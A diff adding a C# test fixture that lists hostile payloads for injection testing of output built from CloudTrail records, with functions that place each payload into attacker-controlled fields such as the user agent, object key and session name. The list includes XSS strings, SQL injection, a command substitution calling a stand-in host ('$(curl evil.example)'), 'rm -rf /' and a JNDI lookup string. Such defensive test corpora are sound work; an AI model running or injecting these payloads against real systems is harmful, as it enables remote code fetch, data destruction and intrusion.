@@ -1,0 +1,64 @@
+using System.Text.Json.Nodes;
+
+namespace Reliability.Tests.Injection;
+
+/// <summary>
+/// The hostile-payload corpus (issue part 5): markup, links, mentions, control sequences, header and log
+/// injection, JSON breakers, oversized and odd Unicode, and the CloudTrail fields an attacker controls that reach
+/// output. Each placement writes the payload where a real call would carry it, consistently (the session name in
+/// both the ARN and the principalId; the object key in the request, the resources and the error message).
+/// </summary>
+public static class HostilePayloads
+{
+    public static IReadOnlyList<string> All { get; } =
+    [
+        // Terminal control: ANSI/OSC escapes, CR overwrite, backspace, bell, NUL, C1, bidi and line separators.
+        "\u001b[31mRED\u001b[0m", "\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007", "\u001b[2J\u001b[H", "ok\rFORGED",
+        "a\bb", "bell\u0007", "nul\0byte", "c1\u009bcsi", "\u202Eevil\u202C", "\u2066iso\u2069", "line\u2028sep", "para\u2029sep",
+        // Markdown and HTML.
+        "[click](http://evil.example)", "![img](http://evil.example/x.png)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
+        "**bold** _it_ ~~s~~", "# heading", "> quote", "```\nfenced\n```", "`code`", "| a | b |\n|---|---|", "<!-- comment -->",
+        "[x]: http://evil.example", "<http://evil.example>", "javascript:alert(1)", "&lt;escaped&gt;", "&amp;",
+        // Slack / Q Developer mentions and links.
+        "<!channel>", "<!here>", "<!everyone>", "<@U0123ABCD>", "<#C0123ABCD>", "<http://evil.example|Click here>", "@here", "@channel",
+        "<!subteam^S0123|@oncall>", "<mailto:a@evil.example|mail>",
+        // Header, log and line injection.
+        "x\r\nBcc: victim@example.com", "x\nSubject: forged", "x\r\n\r\n<html>body</html>", "\n{\"level\":\"error\",\"message\":\"forged\"}",
+        "%0d%0aSet-Cookie:x=1",
+        // JSON and string breakers, format strings, template and shell.
+        "\"}],\"injected\":true,{\"", "\\\"", "\\u0000", "'; DROP TABLE findings; --", "$(curl evil.example)", "`rm -rf /`", "${jndi:ldap://evil.example/a}",
+        "{{7*7}}", "%s%n%x", "\uFFFE\uFFFF", "\uD83D\uDE00\u200D\uD83D\uDCA5", "Ａｄｍｉｎ", "zero\u200Bwidth", new string('A', 10_000),
+        string.Concat(Enumerable.Repeat("<!channel>", 500)),
+    ];
+
+    /// <summary>The attacker-controlled fields, each as a function that places a payload in a copy of the record.</summary>
+    public static IReadOnlyList<(string Field, Action<JsonObject, string> Place)> Placements { get; } =
+    [
+        ("userAgent", (r, p) => r["userAgent"] = "aws-sdk-js/3 exec-env/AWS_Lambda_nodejs20.x " + p),
+        ("requestParameters", (r, p) =>
+        {
+            var key = "invoices/" + p;
+            r["requestParameters"]!["key"] = key;
+            r["resources"]![0]!["ARN"] = "arn:aws:s3:::acme-orders-prod/" + key;
+            r["errorMessage"] = ErrorMessage("orders-api", "arn:aws:s3:::acme-orders-prod/" + key);
+        }),
+        ("errorMessage", (r, p) => r["errorMessage"] = ErrorMessage("orders-api", "arn:aws:s3:::acme-orders-prod/invoices/2026/11/inv-1000.pdf") + " " + p),
+        ("resourceName", (r, p) =>
+        {
+            var bucket = "acme-" + p;
+            r["requestParameters"]!["bucketName"] = bucket;
+            r["resources"]![0]!["ARN"] = $"arn:aws:s3:::{bucket}/k";
+            r["resources"]![1]!["ARN"] = $"arn:aws:s3:::{bucket}";
+            r["errorMessage"] = ErrorMessage("orders-api", $"arn:aws:s3:::{bucket}/k");
+        }),
+        ("sessionName", (r, p) =>
+        {
+            r["userIdentity"]!["arn"] = "arn:aws:sts::111122223333:assumed-role/orders-api-role/" + p;
+            r["userIdentity"]!["principalId"] = "AROA9362DA5C13DA58A:" + p;
+            r["errorMessage"] = ErrorMessage(p, "arn:aws:s3:::acme-orders-prod/invoices/2026/11/inv-1000.pdf");
+        }),
+    ];
+
+    private static string ErrorMessage(string session, string resource) =>
+        $"User: arn:aws:sts::111122223333:assumed-role/orders-api-role/{session} is not authorized to perform: s3:GetObject on \"{resource}\" because no identity-based policy allows the s3:GetObject action";
+}
